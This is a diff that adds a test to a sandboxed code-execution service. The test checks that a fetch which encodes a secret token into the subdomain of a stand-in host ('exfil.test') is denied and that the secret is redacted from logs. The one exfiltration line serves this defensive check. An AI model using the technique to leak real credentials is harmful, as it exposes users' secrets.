@@ -263,3 +263,24 @@ print(json.dumps([listening, sorted(k for k in os.environ if "proxy" in k.lower(
     after = net.run(FETCH + code, files={"ca.pem": upstream.ca_pem})
     assert printed(after) == [[], []]
     assert after.network_log == []
+
+
+def test_secrets_the_code_puts_in_a_host_are_redacted_from_the_log(
+    net: execbox.Executor, upstream: Upstream
+) -> None:
+    secret = "s3cr3t-token-4242"
+    port = upstream.http_port
+    result = run(
+        net,
+        upstream,
+        f"print(fetch('http://{secret}.exfil.test:{port}/')[0])",
+        [f"api.test:{port}"],
+        secrets=[secret],
+    )
+    [entry] = result.network_log
+    assert entry.verdict == "denied"
+    record = net.store.get(result.run_id)
+    assert record is not None
+    for shown in (result.model_dump_json(), record.model_dump_json()):
+        assert secret not in shown
+    assert "[REDACTED" in entry.host
